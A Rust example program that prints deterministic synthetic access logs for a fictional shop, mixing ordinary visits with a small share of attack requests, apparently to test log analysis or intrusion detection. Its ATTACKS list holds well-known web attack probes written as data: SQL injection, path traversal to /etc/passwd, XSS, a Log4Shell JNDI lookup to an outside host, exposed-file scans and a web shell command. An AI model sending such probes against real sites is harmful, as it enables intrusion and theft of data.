//! Prints combined log lines of an ordinary shop with attackers among its visitors, the same in every run.
//! `cargo run --release --example traffic -- 1000000 > access.log`

use std::io::{BufWriter, Write};

const AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
];

const SECTIONS: [&str; 10] =
    ["products", "blog", "news", "about", "help", "category/shoes", "category/hats", "cart", "account", "static/img"];

const ATTACKS: [&str; 12] = [
    "/index.php?id=1%27%20UNION%20SELECT%201,2,3--%20-",
    "/download?file=../../../../../../etc/passwd",
    "/.env",
    "/wp-content/plugins/x/readme.txt",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/.git/config",
    "/cgi-bin/luci/;stok=/locale",
    "/?x=${jndi:ldap://203.0.113.1/a}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/phpmyadmin/index.php",
    "/backup.sql.gz",
    "/shell.php?cmd=id",
];

fn main() -> std::io::Result<()> {
    let lines = std::env::args().nth(1).and_then(|count| count.parse().ok()).unwrap_or(100_000);
    let mut dice = Dice(0x5eed);
    let mut out = BufWriter::with_capacity(1 << 20, std::io::stdout().lock());
    for line in 0..lines {
        // Twenty lines a second, from noon on.
        let second = line / 20;
        let (day, hour, minute) = (12 + second / 86_400, second / 3600 % 24, second / 60 % 60);
        let stamp = format!("{:02}/Nov/2026:{hour:02}:{minute:02}:{:02} +0000", day % 28 + 1, second % 60);
        if dice.roll(100) < 3 { attack(&mut out, &mut dice, &stamp)? } else { visit(&mut out, &mut dice, &stamp)? }
    }
    out.flush()
}

fn visit(out: &mut impl Write, dice: &mut Dice, stamp: &str) -> std::io::Result<()> {
    let person = dice.roll(20_000);
    let section = SECTIONS[dice.roll(10) as usize];
    let page = dice.roll(3000);
    let target = match dice.roll(10) {
        0 => format!("/{section}?page={page}&sort=price"),
        1 => format!("/search?q=running+shoes+size+{page}&lang=en%2DGB"),
        2 => format!("/static/js/app.{page:08x}.js"),
        3 => format!("/static/img/photo-{page}.webp?w=640&h=480"),
        _ => format!("/{section}/article-{page}-with-a-title-of-some-length"),
    };
    let status = [200, 200, 200, 200, 200, 200, 304, 302, 200, 404][dice.roll(10) as usize];
    let status = if status == 404 && dice.roll(20) > 0 { 200 } else { status };
    writeln!(
        out,
        "100.{}.{}.{} - - [{stamp}] \"GET {target} HTTP/1.1\" {status} {} \"https://shop.example/{section}\" \"{}\"",
        64 + person / 65_536,
        person / 256 % 256,
        person % 256,
        dice.roll(90_000),
        AGENTS[(person % 8) as usize],
    )
}

fn attack(out: &mut impl Write, dice: &mut Dice, stamp: &str) -> std::io::Result<()> {
    let target = ATTACKS[dice.roll(12) as usize];
    let client = dice.roll(200);
    let status = [404, 403, 404, 400, 200][dice.roll(5) as usize];
    writeln!(
        out,
        "203.0.113.{client} - - [{stamp}] \"GET {target} HTTP/1.1\" {status} 162 \"-\" \"{}\"",
        AGENTS[dice.roll(8) as usize]
    )
}

/// Marsaglia's xorshift: the same numbers everywhere.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 11) % sides
    }
}
